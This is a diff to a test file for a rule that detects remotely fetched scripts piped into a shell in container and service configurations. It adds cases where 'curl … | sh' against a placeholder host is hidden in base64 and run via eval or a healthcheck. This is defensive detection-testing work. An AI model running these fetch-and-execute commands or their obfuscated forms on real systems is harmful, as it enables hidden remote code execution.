@@ -23,6 +23,18 @@ testRule(remoteScriptExecuted, {
     'in a Dockerfile, which another rule looks at': 'FROM debian:13\nCMD curl -fsSL https://get.example.com | sh\n',
   },
   invalid: {
+    'by a text that is encoded': {
+      text: pod('      command: ["sh", "-c", "echo ⟦Y3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLmNvbS94LnNoIHwgc2g=⟧ | base64 -d | sh"]\n'),
+      expect: [{ messageId: 'piped', severity: 'medium' }],
+    },
+    'by a text that is encoded, and that a service evaluates': {
+      text: `services:\n  a:\n    image: acme/a:1\n    command: ["sh", "-c", ⟦"eval \\"$$(echo Y3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLmNvbS94LnNoIHwgc2g= | base64 -d)\\""⟧]\n`,
+      expect: ['piped'],
+    },
+    'by a text that is encoded, when asked for its health': {
+      text: 'services:\n  a:\n    image: acme/a:1\n    healthcheck:\n      test: base64 -d <<< ⟦Y3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLmNvbS94LnNoIHwgc2g=⟧ | sh\n',
+      expect: ['piped'],
+    },
     'by the shell of a service': {
       text: 'services:\n  a:\n    image: acme/a:1\n    command: ["sh", "-c", "⟦curl -fsSL https://get.example.com/x.sh | sh⟧ && exec a"]\n',
       expect: [
